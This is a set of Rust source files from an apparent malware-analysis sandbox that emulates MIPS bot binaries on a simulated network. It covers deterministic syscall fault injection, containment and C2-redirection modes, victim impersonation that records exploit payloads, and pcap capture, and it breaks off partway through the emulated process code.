//!   independent of parallelism or the block-engine toggle;
//! * a sub-plan with every rate zero ([`EmuFaults::none`], the default)
//!   draws **zero** RNG values and injects nothing — the run is
//!   byte-identical to a fault-unaware build (enforced by
//!   `crates/core/tests/parallel_determinism.rs`).

use malnet_prng::rngs::StdRng;
use malnet_prng::{sub_seed, Rng, SeedableRng};

/// Decision-stream discriminants mixed into [`sub_seed`]'s `day` slot so
/// the EINTR, short-I/O, and ENOMEM draws at one syscall index stay
/// independent (one shared generator would correlate them).
const STREAM_EINTR: u32 = 1;
const STREAM_SHORT: u32 = 2;
const STREAM_ENOMEM: u32 = 3;

/// The emulator's per-run fault sub-plan: rates in `[0, 1]` plus an
/// optional reduced fd cap. Decisions are keyed on the process's
/// syscall index (see module docs).
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct EmuFaults {
    /// Seed every per-syscall decision derives from (typically a
    /// `sub_seed` of the study's fault seed, per day and sample).
    pub seed: u64,
    /// Probability a `read`/`recv` delivery or `send`/`write` is cut
    /// short (a partial count is returned; the rest stays queued).
    pub short_rate: f64,
    /// Probability a blocking call (`read`/`recv`/`accept`/`nanosleep`)
    /// returns `EINTR` before blocking.
    pub eintr_rate: f64,
    /// Probability an allocation-backed call (`socket`) returns `ENOMEM`.
    pub enomem_rate: f64,
    /// Reduced per-process fd cap for this run (`None` leaves the
    /// sandbox's configured cap in force).
    pub fd_cap: Option<u32>,
}

impl EmuFaults {
    /// The inert sub-plan: every rate zero, no cap reduction, no RNG
    /// ever drawn.
    pub const fn none() -> Self {
        EmuFaults {
            seed: 0,
            short_rate: 0.0,
            eintr_rate: 0.0,
            enomem_rate: 0.0,
            fd_cap: None,
        }
    }

    /// Is this the inert sub-plan?
    pub fn is_none(&self) -> bool {
        self.short_rate == 0.0
            && self.eintr_rate == 0.0
            && self.enomem_rate == 0.0
            && self.fd_cap.is_none()
    }

    fn fires(&self, stream: u32, index: u64, rate: f64) -> bool {
        if rate <= 0.0 {
            return false;
        }
        let mut rng = StdRng::seed_from_u64(sub_seed(self.seed, stream, index));
        rng.gen_bool(rate.min(1.0))
    }

    /// Should the blocking call at `index` be interrupted (`EINTR`)?
    pub fn eintr(&self, index: u64) -> bool {
        self.fires(STREAM_EINTR, index, self.eintr_rate)
    }

    /// Should the I/O at `index` be cut short? Returns the reduced
    /// count in `1..count`; `None` leaves the transfer whole. Transfers
    /// of one byte or less cannot be shortened.
    pub fn short_count(&self, index: u64, count: usize) -> Option<usize> {
        if count <= 1 || !self.fires(STREAM_SHORT, index, self.short_rate) {
            return None;
        }
        let mut rng = StdRng::seed_from_u64(sub_seed(self.seed, STREAM_SHORT, !index));
        Some(rng.gen_range(1..count))
    }

    /// Should the allocation-backed call at `index` fail with `ENOMEM`?
    pub fn enomem(&self, index: u64) -> bool {
        self.fires(STREAM_ENOMEM, index, self.enomem_rate)
    }
}

impl Default for EmuFaults {
    fn default() -> Self {
        EmuFaults::none()
    }
}

/// Tally of syscall-boundary faults actually injected during one run —
/// the audit trail a degradation row carries so a casualty is
/// attributable to its faults.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct EmuFaultTally {
    /// Short reads/writes delivered.
    pub short_io: u64,
    /// `EINTR` returns injected.
    pub eintr: u64,
    /// `ENOMEM` returns injected.
    pub enomem: u64,
    /// `EMFILE` returns served (fd table at its cap).
    pub emfile: u64,
}

impl EmuFaultTally {
    /// Total injected faults.
    pub fn total(&self) -> u64 {
        self.short_io + self.eintr + self.enomem + self.emfile
    }

    /// Did anything fire?
    pub fn any(&self) -> bool {
        self.total() > 0
    }

    /// Human-readable fault-context line for D-Health rows.
    pub fn describe(&self) -> String {
        format!(
            "emu faults injected: short_io={} eintr={} enomem={} emfile={}",
            self.short_io, self.eintr, self.enomem, self.emfile
        )
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn none_is_inert_and_default() {
        let f = EmuFaults::none();
        assert!(f.is_none());
        assert_eq!(EmuFaults::default(), f);
        for idx in 0..512 {
            assert!(!f.eintr(idx));
            assert!(!f.enomem(idx));
            assert_eq!(f.short_count(idx, 4096), None);
        }
    }

    #[test]
    fn decisions_are_pure_functions_of_seed_and_index() {
        let f = EmuFaults {
            seed: 0xfeed,
            short_rate: 0.3,
            eintr_rate: 0.2,
            enomem_rate: 0.1,
            fd_cap: Some(16),
        };
        for idx in 0..256 {
            assert_eq!(f.eintr(idx), f.eintr(idx));
            assert_eq!(f.enomem(idx), f.enomem(idx));
            assert_eq!(f.short_count(idx, 100), f.short_count(idx, 100));
        }
    }

    #[test]
    fn every_family_fires_and_streams_are_independent() {
        let f = EmuFaults {
            seed: 7,
            short_rate: 0.5,
            eintr_rate: 0.5,
            enomem_rate: 0.5,
            fd_cap: None,
        };
        let eintr: Vec<bool> = (0..256).map(|i| f.eintr(i)).collect();
        let enomem: Vec<bool> = (0..256).map(|i| f.enomem(i)).collect();
        let short: Vec<bool> = (0..256).map(|i| f.short_count(i, 64).is_some()).collect();
        assert!(eintr.iter().any(|&b| b) && eintr.iter().any(|&b| !b));
        assert!(enomem.iter().any(|&b| b) && enomem.iter().any(|&b| !b));
        assert!(short.iter().any(|&b| b) && short.iter().any(|&b| !b));
        // Perfectly correlated streams would mean one generator is
        // shared; the discriminant keeps them apart.
        assert_ne!(eintr, enomem);
        assert_ne!(eintr, short);
    }

    #[test]
    fn short_counts_stay_in_bounds() {
        let f = EmuFaults {
            seed: 3,
            short_rate: 1.0,
            ..EmuFaults::none()
        };
        for idx in 0..128 {
            for count in [2usize, 3, 64, 65536] {
                let n = f.short_count(idx, count).expect("rate 1.0 always fires");
                assert!((1..count).contains(&n), "short {n} of {count}");
            }
            assert_eq!(f.short_count(idx, 1), None);
            assert_eq!(f.short_count(idx, 0), None);
        }
    }

    #[test]
    fn different_seeds_differ() {
        let a = EmuFaults {
            seed: 1,
            eintr_rate: 0.5,
            ..EmuFaults::none()
        };
        let b = EmuFaults { seed: 2, ..a };
        let va: Vec<bool> = (0..128).map(|i| a.eintr(i)).collect();
        let vb: Vec<bool> = (0..128).map(|i| b.eintr(i)).collect();
        assert_ne!(va, vb);
    }

    #[test]
    fn tally_accounting() {
        let mut t = EmuFaultTally::default();
        assert!(!t.any());
        t.short_io = 2;
        t.emfile = 1;
        assert_eq!(t.total(), 3);
        assert!(t.any());
        let d = t.describe();
        assert!(d.contains("short_io=2") && d.contains("emfile=1"), "{d}");
    }
}
