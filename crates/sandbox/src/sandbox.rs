//! Run orchestration: containment modes, InetSim faking, the handshaker,
//! weaponization, and capture management.

use std::collections::{BTreeMap, BTreeSet};
use std::net::Ipv4Addr;
use std::sync::{Arc, Mutex};

use malnet_netsim::net::Network;
use malnet_netsim::time::SimDuration;
use malnet_telemetry::Telemetry;
use malnet_wire::packet::Packet;
use malnet_wire::pcap;

use crate::faults::{EmuFaultTally, EmuFaults};
use crate::process::{BotProcess, ExitReason, ProcessConfig, DEFAULT_FD_CAP};
use crate::services::{FakeVictim, InetSimHttp, VictimCapture, VictimLog, WildcardDns};

/// The sinkhole address the wildcard DNS hands out in contained mode.
pub const DNS_SINKHOLE: Ipv4Addr = Ipv4Addr::new(100, 64, 99, 99);
/// Where the sandbox's fake resolver lives.
pub const FAKE_RESOLVER: Ipv4Addr = Ipv4Addr::new(100, 64, 0, 53);

/// How the sandbox treats the malware's traffic.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum AnalysisMode {
    /// No real Internet. DNS is answered by a wildcard resolver
    /// (InetSim-style); HTTP (port 80/8080) is served by fake servers;
    /// other destinations do not exist unless the handshaker engages.
    /// This is the paper's C2-*detection* configuration (§2.6a).
    Contained,
    /// Restricted egress: only destinations in `allowed` are reachable
    /// (the world's live C2 host(s)); everything else is contained. The
    /// paper's DDoS-observation configuration (§2.5: "only C2 traffic is
    /// allowed"). Blocked traffic is still captured at the sender tap.
    Restricted {
        /// Destination IPs allowed out.
        allowed: Vec<Ipv4Addr>,
    },
    /// CnCHunter weaponization (§2.1 mode 2): every TCP connect the
    /// malware makes to a non-DNS destination is redirected to `target`.
    /// Used by the active-probing study to test candidate C2 endpoints.
    Weaponized {
        /// The probe target that replaces the malware's own C2.
        target: (Ipv4Addr, u16),
    },
}

/// Sandbox-wide knobs.
#[derive(Debug, Clone)]
pub struct SandboxConfig {
    /// The infected device's address.
    pub bot_ip: Ipv4Addr,
    /// Containment mode.
    pub mode: AnalysisMode,
    /// Handshaker victim-impersonation threshold: after a TCP port has
    /// been contacted on ≥ this many distinct addresses, the sandbox
    /// impersonates subsequent victims on that port (paper §2.4 uses 20).
    /// `None` disables the handshaker.
    pub handshaker_threshold: Option<usize>,
    /// Guest instruction budget.
    pub instruction_budget: u64,
    /// RNG seed (drives guest randomness).
    pub seed: u64,
    /// Run the guest on the block-cached interpreter (see
    /// `malnet_mips::block`). Bit-exact against the legacy stepping
    /// engine, so artifacts are identical either way; off is for
    /// differential testing and oracle-speed baselines.
    pub block_engine: bool,
    /// Per-process fd-table cap ([`DEFAULT_FD_CAP`]): `socket` returns
    /// `EMFILE` once this many descriptors are open.
    pub fd_cap: u32,
    /// Syscall-boundary fault sub-plan for the guest process
    /// ([`EmuFaults::none`], the default, injects nothing and draws no
    /// randomness).
    pub emu_faults: EmuFaults,
}

impl Default for SandboxConfig {
    fn default() -> Self {
        SandboxConfig {
            bot_ip: Ipv4Addr::new(100, 64, 0, 2),
            mode: AnalysisMode::Contained,
            handshaker_threshold: Some(20),
            instruction_budget: 200_000_000,
            seed: 7,
            block_engine: true,
            fd_cap: DEFAULT_FD_CAP,
            emu_faults: EmuFaults::none(),
        }
    }
}

/// One exploit payload captured by the handshaker.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CapturedExploit {
    /// Victim address that was impersonated.
    pub victim: Ipv4Addr,
    /// Attacked port.
    pub port: u16,
    /// The exploit payload bytes.
    pub payload: Vec<u8>,
    /// Capture time (µs).
    pub ts_micros: u64,
}

/// Everything a run produces. All analysis downstream of the sandbox
/// works from these artifacts (primarily the pcap bytes), never from
/// simulator internals.
#[derive(Debug, Clone)]
pub struct Artifacts {
    /// Why the process stopped.
    pub exit: ExitReason,
    /// Full packet capture at the bot's tap, as a pcap file.
    pub pcap: Vec<u8>,
    /// Exploit payloads the handshaker collected.
    pub exploits: Vec<CapturedExploit>,
    /// DNS names the malware queried (from the fake resolver's log).
    pub dns_queries: Vec<String>,
    /// Guest instructions retired.
    pub instructions: u64,
    /// Syscalls serviced.
    pub syscalls: u64,
    /// Syscall-boundary faults the chaos sub-plan injected (all zero
    /// outside chaos runs).
    pub emu_faults: EmuFaultTally,
}

impl Artifacts {
    /// Parse the capture into timestamped logical packets (convenience
    /// for tests and the pipeline).
    pub fn packets(&self) -> Vec<(u64, Packet)> {
        pcap::parse_capture(&self.pcap)
            .map(|(p, _)| p)
            .unwrap_or_default()
    }
}

/// The sandbox: a network plus containment policy and instruments.
pub struct Sandbox {
    /// The simulated Internet this run sees. May be pre-populated with
    /// world hosts (live C2s, probe subnets) by the caller.
    pub net: Network,
    cfg: SandboxConfig,
    victim_log: VictimLog,
    dns_names: Arc<Mutex<Vec<String>>>,
    /// Distinct destination IPs seen per TCP port (handshaker counter).
    /// Ordered collections: `port_contact_counts` and `Debug` expose
    /// these, so hash iteration order would leak into output.
    port_contacts: BTreeMap<u16, BTreeSet<Ipv4Addr>>,
    /// Ports where the handshaker has engaged.
    engaged_ports: BTreeSet<u16>,
    /// Destinations the sandbox spawned fake hosts for.
    spawned: BTreeSet<Ipv4Addr>,
    /// Telemetry handle (inert by default); see [`Sandbox::with_telemetry`].
    tel: Telemetry,
    /// Pre-resolved counters for the execute path.
    tel_handles: SandboxTelemetry,
}

/// Pre-resolved sandbox metric handles.
#[derive(Debug, Clone, Default)]
struct SandboxTelemetry {
    runs: malnet_telemetry::Counter,
    instructions: malnet_telemetry::Counter,
    syscalls: malnet_telemetry::Counter,
    exploits: malnet_telemetry::Counter,
    /// Simulated seconds of sandbox execution granted — a wall-clock-free
    /// progress denominator for event-stream heartbeats.
    vtime_secs: malnet_telemetry::Counter,
    /// Total syscall-boundary faults injected (zero outside chaos runs).
    emu_faults: malnet_telemetry::Counter,
    instructions_per_run: malnet_telemetry::Histogram,
}

impl SandboxTelemetry {
    fn resolve(tel: &Telemetry) -> Self {
        SandboxTelemetry {
            runs: tel.counter("sandbox.runs"),
            instructions: tel.counter("sandbox.instructions_retired"),
            syscalls: tel.counter("sandbox.syscalls_serviced"),
            exploits: tel.counter("sandbox.exploits_captured"),
            vtime_secs: tel.counter("sandbox.vtime_secs"),
            emu_faults: tel.counter("chaos.emu_faults_injected"),
            instructions_per_run: tel.histogram("sandbox.instructions_per_run"),
        }
    }
}

// Compile-time guarantee: a whole sandbox (network included) can run on
// a worker thread; `Artifacts` is the plain data it ships back.
const _: () = {
    const fn assert_send<T: Send>() {}
    assert_send::<Sandbox>();
    assert_send::<Artifacts>();
};

impl Sandbox {
    /// Wrap an existing network (which may already contain world hosts).
    /// Installs the fake resolver, the bot's host entry, and the capture
    /// tap.
    pub fn new(mut net: Network, cfg: SandboxConfig) -> Self {
        let dns_names = Arc::new(Mutex::new(Vec::new()));
        if !net.has_host(FAKE_RESOLVER) {
            net.add_service_host(
                FAKE_RESOLVER,
                Box::new(WildcardDns::new(DNS_SINKHOLE, dns_names.clone())),
            );
        }
        if !net.has_host(cfg.bot_ip) {
            net.add_external_host(cfg.bot_ip);
        }
        net.start_capture(cfg.bot_ip);
        let mut sb = Sandbox {
            net,
            cfg,
            victim_log: VictimLog::default(),
            dns_names,
            port_contacts: BTreeMap::new(),
            engaged_ports: BTreeSet::new(),
            spawned: BTreeSet::new(),
            tel: Telemetry::disabled(),
            tel_handles: SandboxTelemetry::default(),
        };
        sb.install_egress_filter();
        sb
    }

    /// Attach a telemetry handle: `sandbox.exec` spans, instruction /
    /// syscall / exploit counters, and the wrapped network's packet
    /// counters all record into it. Telemetry never feeds back into the
    /// run (no RNG draws, no virtual-clock reads), so an instrumented
    /// sandbox produces byte-identical artifacts.
    pub fn with_telemetry(mut self, tel: &Telemetry) -> Self {
        self.tel = tel.clone();
        self.tel_handles = SandboxTelemetry::resolve(tel);
        self.net.set_telemetry(tel);
        self
    }

    /// The sandbox configuration.
    pub fn config(&self) -> &SandboxConfig {
        &self.cfg
    }

    fn install_egress_filter(&mut self) {
        if let AnalysisMode::Restricted { allowed } = &self.cfg.mode {
            let allowed: BTreeSet<Ipv4Addr> = allowed.iter().copied().collect();
            let bot = self.cfg.bot_ip;
            self.net.set_egress_filter(Box::new(move |_, pkt| {
                if pkt.src != bot {
                    return true; // only the bot is contained
                }
                pkt.dst == FAKE_RESOLVER || allowed.contains(&pkt.dst)
            }));
        }
    }

    /// Policy hook for guest TCP connects. Returns the (possibly
    /// rewritten) destination, or `None` to refuse outright.
    pub(crate) fn prepare_tcp_dest(&mut self, dst: Ipv4Addr, port: u16) -> Option<(Ipv4Addr, u16)> {
        match self.cfg.mode.clone() {
            AnalysisMode::Weaponized { target } => {
                // All C2-bound traffic goes to the probe target instead.
                Some(target)
            }
            AnalysisMode::Contained => {
                self.note_contact(dst, port);
                self.maybe_spawn_fake(dst, port);
                Some((dst, port))
            }
            AnalysisMode::Restricted { allowed } => {
                self.note_contact(dst, port);
                if !allowed.contains(&dst) {
                    self.maybe_spawn_fake(dst, port);
                }
                Some((dst, port))
            }
        }
    }

    /// Policy hook for guest UDP destinations: reroute DNS to the fake
    /// resolver in contained modes.
    pub(crate) fn prepare_udp_dest(&mut self, dst: Ipv4Addr, port: u16) -> (Ipv4Addr, u16) {
        if port == 53 && !self.net.has_host(dst) {
            return (FAKE_RESOLVER, 53);
        }
        (dst, port)
    }

    fn note_contact(&mut self, dst: Ipv4Addr, port: u16) {
        self.port_contacts.entry(port).or_default().insert(dst);
        if let Some(threshold) = self.cfg.handshaker_threshold {
            if !self.engaged_ports.contains(&port) && self.port_contacts[&port].len() >= threshold {
                self.engaged_ports.insert(port);
            }
        }
    }

    /// Spawn a fake endpoint for `dst` when policy says we should engage:
    /// * HTTP ports always get an InetSim server (downloader faking);
    /// * handshaker-engaged ports get a fake victim that records the
    ///   payload.
    fn maybe_spawn_fake(&mut self, dst: Ipv4Addr, port: u16) {
        if self.net.has_host(dst) || self.spawned.contains(&dst) {
            return;
        }
        if self.engaged_ports.contains(&port) {
            self.net.add_service_host(
                dst,
                Box::new(FakeVictim::new(dst, vec![port], self.victim_log.clone())),
            );
            self.spawned.insert(dst);
        } else if port == 80 || port == 8080 {
            self.net
                .add_service_host(dst, Box::new(InetSimHttp::new(vec![port, 8080])));
            self.spawned.insert(dst);
        }
    }

    /// Number of distinct addresses contacted per port so far, in port
    /// order.
    pub fn port_contact_counts(&self) -> BTreeMap<u16, usize> {
        self.port_contacts
            .iter()
            .map(|(p, s)| (*p, s.len()))
            .collect()
    }

    /// Execute an ELF for up to `duration` of virtual time and collect
    /// artifacts. The network clock keeps its pre-run origin, so repeated
    /// runs on one network advance through the study day.
    pub fn execute(&mut self, elf_bytes: &[u8], duration: SimDuration) -> Artifacts {
        let _span = self.tel.span("sandbox.exec");
        let deadline = self.net.now() + duration;
        let pcfg = ProcessConfig {
            bot_ip: self.cfg.bot_ip,
            instruction_budget: self.cfg.instruction_budget,
            seed: self.cfg.seed,
            block_engine: self.cfg.block_engine,
            fd_cap: self.cfg.fd_cap,
            faults: self.cfg.emu_faults,
        };
        let (exit, instructions, syscalls, emu_faults) = match BotProcess::load(elf_bytes, pcfg) {
            Some(mut proc) => {
                let exit = proc.run(self, deadline);
                (
                    exit,
                    proc.instructions(),
                    proc.syscall_count,
                    proc.fault_tally,
                )
            }
            None => (
                ExitReason::Fault("unloadable ELF".to_string()),
                0,
                0,
                EmuFaultTally::default(),
            ),
        };
        // Instructions/sec is *derived*, never recorded: wall-clock
        // values must not feed counters or histograms (they would break
        // schedule-invariance; see DESIGN.md §8). Reports divide the
        // `sandbox.instructions_retired` counter by the `sandbox.exec`
        // span's wall time instead.
        // Let in-flight packets land so captures include trailing ACKs.
        self.net.run_for(SimDuration::from_millis(500));
        let cap = self.net.stop_capture(self.cfg.bot_ip);
        self.net.start_capture(self.cfg.bot_ip);
        let mut pcap_bytes = Vec::new();
        {
            let mut w =
                pcap::PcapWriter::with_telemetry(&mut pcap_bytes, &self.tel).expect("vec write");
            for (ts, pkt) in &cap {
                w.write(*ts, pkt).expect("vec write");
            }
            let _ = w.finish().expect("flush");
        }
        let exploits: Vec<CapturedExploit> = self
            .victim_log
            .lock()
            .unwrap()
            .iter()
            .map(|v: &VictimCapture| CapturedExploit {
                victim: v.victim,
                port: v.port,
                payload: v.payload.clone(),
                ts_micros: v.ts_micros,
            })
            .collect();
        self.victim_log.lock().unwrap().clear();
        let dns_queries = std::mem::take(&mut *self.dns_names.lock().unwrap());
        self.tel_handles.runs.incr();
        self.tel_handles.instructions.add(instructions);
        self.tel_handles.syscalls.add(syscalls);
        self.tel_handles.vtime_secs.add(duration.as_secs());
        self.tel_handles.emu_faults.add(emu_faults.total());
        self.tel_handles.instructions_per_run.record(instructions);
        self.tel_handles.exploits.add(exploits.len() as u64);
        Artifacts {
            exit,
            pcap: pcap_bytes,
            exploits,
            dns_queries,
            instructions,
            syscalls,
            emu_faults,
        }
    }

    /// Dissolve the sandbox and return the network (with world hosts
    /// intact) to the caller.
    pub fn into_network(mut self) -> Network {
        self.net.clear_egress_filter();
        let _ = self.net.stop_capture(self.cfg.bot_ip);
        self.net.remove_host(self.cfg.bot_ip);
        self.net
    }
}

impl std::fmt::Debug for Sandbox {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Sandbox")
            .field("bot_ip", &self.cfg.bot_ip)
            .field("mode", &self.cfg.mode)
            .field("engaged_ports", &self.engaged_ports)
            .finish()
    }
}
