//! # malnet-sandbox — the CnCHunter-equivalent dynamic-analysis sandbox
//!
//! The paper activates each malware binary in a QEMU-based sandbox
//! (CnCHunter) in two modes: **observational** (let the malware contact
//! its own C2, with the Internet faked unless explicitly allowed) and
//! **weaponized** (redirect the C2 flow to chosen probe targets). This
//! crate reproduces both on top of `malnet-mips` (the CPU) and
//! `malnet-netsim` (the Internet):
//!
//! * [`process`] — loads a MIPS ELF and services its Linux o32 syscalls
//!   against the simulated network: sockets, blocking connect/recv with
//!   timeouts, raw-socket sends for flood code, nanosleep driving the
//!   virtual clock.
//! * [`sandbox`] — run orchestration: containment modes, InetSim-style
//!   DNS/HTTP faking (on-demand fake hosts), the **handshaker** (§2.4:
//!   after a port is contacted by ≥ N distinct addresses, impersonate
//!   victims and capture the exploit payload), MITM weaponization
//!   (redirect C2-bound connects to a probe target), and pcap capture of
//!   everything the malware emits.
//! * [`services`] — the fake-endpoint services (sinkhole, fake victim,
//!   wildcard DNS).
//! * [`faults`] — deterministic syscall-boundary fault injection (short
//!   I/O, `EINTR`, `ENOMEM`, fd-cap exhaustion): the emulator's share of
//!   the chaos layer, driven per sample by `malnet-core`'s fault plan.
//!
//! The sandbox is intentionally ignorant of how binaries are made: it
//! loads any ELF32/MIPS executable. `malnet-botgen` produces them; the
//! integration tests in that crate close the loop.

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod faults;
pub mod process;
pub mod sandbox;
pub mod services;

pub use faults::{EmuFaultTally, EmuFaults};
pub use process::{BotProcess, ExitReason};
pub use sandbox::{AnalysisMode, Artifacts, CapturedExploit, Sandbox, SandboxConfig};
