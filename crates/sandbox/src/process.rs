//! The emulated malware process: a MIPS CPU plus a Linux-o32 syscall
//! layer bridged onto the simulated network.
//!
//! Blocking semantics: `connect`, `recv` and `nanosleep` advance the
//! network's virtual clock while the guest waits, so traffic timing in
//! captures is realistic. Every syscall also costs a small fixed amount
//! of virtual time ([`SYSCALL_COST`]), which both models kernel overhead
//! and guarantees that send-loops make progress through time.

use std::collections::{BTreeMap, VecDeque};
use std::net::Ipv4Addr;

use malnet_prng::rngs::StdRng;
use malnet_prng::{Rng, SeedableRng};

use malnet_mips::block::ExecCache;
use malnet_mips::cpu::{Cpu, StepOutcome};
use malnet_mips::elf::ElfFile;
use malnet_mips::sys;
use malnet_netsim::stack::{SockEvent, SockId};
use malnet_netsim::time::{SimDuration, SimTime};
use malnet_wire::icmp::IcmpMessage;
use malnet_wire::packet::Packet;
use malnet_wire::tcp::TcpFlags;

use crate::faults::{EmuFaultTally, EmuFaults};
use crate::sandbox::Sandbox;

/// Virtual time charged per syscall.
pub const SYSCALL_COST: SimDuration = SimDuration::from_micros(50);
/// Default per-process fd-table cap. Generous — the corpus' bots open a
/// handful of sockets — but *bounded*, so a leaking guest hits `EMFILE`
/// the way it would on a real kernel (and so the chaos layer's reduced
/// caps are an honest tightening of real behaviour, not a new rule).
pub const DEFAULT_FD_CAP: u32 = 512;
/// Slice of guest instructions executed between deadline checks.
const SLICE: u64 = 100_000;
/// Hard cap on how long a blocking connect waits (matches the network's
/// SYN timeout plus margin).
const CONNECT_WAIT: SimDuration = SimDuration::from_secs(4);
/// Default receive timeout when the guest passes 0.
const DEFAULT_RECV_TIMEOUT: SimDuration = SimDuration::from_secs(30);

/// Why the process stopped.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ExitReason {
    /// Guest called `exit(status)`.
    Exited(u32),
    /// CPU fault (segfault, illegal instruction, …) — the sample failed
    /// to activate, one of the paper's §6f activation-loss causes.
    Fault(String),
    /// The analysis deadline arrived.
    Deadline,
    /// The instruction budget ran out (guest hung in a compute loop).
    Budget,
}

#[derive(Debug)]
enum Fd {
    Tcp {
        sock: SockId,
        state: TcpState,
        rx: VecDeque<u8>,
        peer_closed: bool,
    },
    Udp {
        sport: u16,
        rx: VecDeque<(Ipv4Addr, u16, Vec<u8>)>,
    },
    RawTcp,
    RawIcmp,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum TcpState {
    Connecting,
    Connected,
    Failed,
}

/// Limits and identity for one process run.
#[derive(Debug, Clone)]
pub struct ProcessConfig {
    /// The IP the sandbox assigned to the infected "device".
    pub bot_ip: Ipv4Addr,
    /// Total guest-instruction budget.
    pub instruction_budget: u64,
    /// RNG seed for `getrandom`.
    pub seed: u64,
    /// Execute through the block-cached engine (`malnet_mips::block`)
    /// instead of single-stepping. Observationally identical; off keeps
    /// the legacy `step()` oracle for differential runs.
    pub block_engine: bool,
    /// Per-process fd-table cap: `socket` returns `EMFILE` once this
    /// many descriptors are open.
    pub fd_cap: u32,
    /// Syscall-boundary fault sub-plan ([`EmuFaults::none`] injects
    /// nothing and draws no randomness).
    pub faults: EmuFaults,
}

impl Default for ProcessConfig {
    fn default() -> Self {
        ProcessConfig {
            bot_ip: Ipv4Addr::new(100, 64, 0, 2),
            instruction_budget: 200_000_000,
            seed: 1,
            block_engine: true,
            fd_cap: DEFAULT_FD_CAP,
            faults: EmuFaults::none(),
        }
    }
}

/// A loaded malware process.
pub struct BotProcess {
    cpu: Cpu,
    cfg: ProcessConfig,
    /// Predecoded `.text` for the block engine; `None` runs the legacy
    /// stepping oracle (toggle off, or entry outside any segment).
    cache: Option<ExecCache>,
    /// Open descriptors, keyed by fd number. Ordered map: `pump` and
    /// `fd_by_sock` scan this, and with a hash map the scan order (and
    /// so which of two same-port UDP sockets wins a datagram) would
    /// vary per process.
    fds: BTreeMap<u32, Fd>,
    next_fd: u32,
    rng: StdRng,
    executed: u64,
    /// Count of syscalls serviced (diagnostics). Incremented *before*
    /// dispatch, so during [`BotProcess::syscall`] it is the 1-based
    /// index of the current call — the deterministic coordinate the
    /// fault sub-plan keys its per-syscall decisions on.
    pub syscall_count: u64,
    /// Faults the sub-plan actually injected into this run.
    pub fault_tally: EmuFaultTally,
}

impl BotProcess {
    /// Load an ELF image. Returns `None` when the file is not a loadable
    /// MIPS executable (failed activation).
    pub fn load(elf_bytes: &[u8], cfg: ProcessConfig) -> Option<Self> {
        let elf = ElfFile::parse(elf_bytes).ok()?;
        let mut mem = elf.load();
        mem.map_zeroed(
            malnet_mips::cpu::STACK_TOP - malnet_mips::cpu::STACK_SIZE,
            malnet_mips::cpu::STACK_SIZE + 0x1000,
            true,
        );
        let cache = if cfg.block_engine {
            ExecCache::for_entry(&mut mem, elf.entry)
        } else {
            None
        };
        let cpu = Cpu::new(mem, elf.entry);
        let seed = cfg.seed;
        Some(BotProcess {
            cpu,
            cfg,
            cache,
            fds: BTreeMap::new(),
            next_fd: 3,
            rng: StdRng::seed_from_u64(seed ^ 0xb07_cafe),
            executed: 0,
            syscall_count: 0,
            fault_tally: EmuFaultTally::default(),
        })
    }

    /// Guest instructions retired so far.
    pub fn instructions(&self) -> u64 {
        self.cpu.retired
    }

    /// Run until exit, fault, budget exhaustion, or `deadline` (virtual
    /// time on the sandbox's network clock).
    pub fn run(&mut self, sb: &mut Sandbox, deadline: SimTime) -> ExitReason {
        loop {
            if sb.net.now() >= deadline {
                return ExitReason::Deadline;
            }
            if self.executed >= self.cfg.instruction_budget {
                return ExitReason::Budget;
            }
            let before = self.cpu.retired;
            let slice = SLICE.min(self.cfg.instruction_budget - self.executed);
            let outcome = match self.cache.as_mut() {
                Some(cache) => self.cpu.run_cached(slice, cache),
                None => self.cpu.run(slice),
            };
            match outcome {
                Ok(None) => {
                    self.executed += self.cpu.retired - before;
                }
                Ok(Some(StepOutcome::Syscall)) => {
                    self.executed += self.cpu.retired - before;
                    self.syscall_count += 1;
                    sb.net.run_for(SYSCALL_COST);
                    self.pump(sb);
                    if let Some(exit) = self.syscall(sb, deadline) {
                        return exit;
                    }
                }
                Ok(Some(StepOutcome::Continue)) => unreachable!("run never returns Continue"),
                Err(e) => return ExitReason::Fault(e.to_string()),
            }
        }
    }

    /// Drain network events into per-fd queues.
    fn pump(&mut self, sb: &mut Sandbox) {
        for ev in sb.net.ext_events(self.cfg.bot_ip) {
            match ev {
                SockEvent::Connected(sock) => {
                    if let Some(Fd::Tcp { state, .. }) = self.fd_by_sock(sock) {
                        *state = TcpState::Connected;
                    }
                }
                SockEvent::ConnectFailed { sock, reason } => {
                    if let Some(Fd::Tcp { state, .. }) = self.fd_by_sock(sock) {
                        *state = TcpState::Failed;
                    }
                    let _ = reason;
                }
                SockEvent::TcpData { sock, data } => {
                    if let Some(Fd::Tcp { rx, .. }) = self.fd_by_sock(sock) {
                        rx.extend(data);
                    }
                }
                SockEvent::PeerClosed { sock } | SockEvent::Reset { sock } => {
                    if let Some(Fd::Tcp { peer_closed, .. }) = self.fd_by_sock(sock) {
                        *peer_closed = true;
                    }
                }
                SockEvent::UdpData { port, src, data } => {
                    for fd in self.fds.values_mut() {
                        if let Fd::Udp { sport, rx } = fd {
                            if *sport == port {
                                rx.push_back((src.0, src.1, data));
                                break;
                            }
                        }
                    }
                }
                SockEvent::Accepted { .. } | SockEvent::IcmpIn { .. } => {}
            }
        }
    }

    fn fd_by_sock(&mut self, sock: SockId) -> Option<&mut Fd> {
        self.fds.values_mut().find(|fd| match fd {
            Fd::Tcp { sock: s, .. } => *s == sock,
            _ => false,
        })
    }

    fn ret(&mut self, v: u32) {
        self.cpu.set_reg(2, v); // $v0
        self.cpu.set_reg(7, 0); // $a3 = 0: success
    }

    fn ret_err(&mut self, errno: u32) {
        self.cpu.set_reg(2, u32::MAX); // -1, as the stub expects
        self.cpu.set_reg(7, errno); // $a3 carries the errno
    }

    /// Effective fd cap: the configured table bound, tightened by the
    /// fault sub-plan's reduction when one is active.
    fn fd_cap(&self) -> u32 {
        match self.cfg.faults.fd_cap {
            Some(c) => c.min(self.cfg.fd_cap),
            None => self.cfg.fd_cap,
        }
    }

    /// Service one syscall; `Some(exit)` terminates the run.
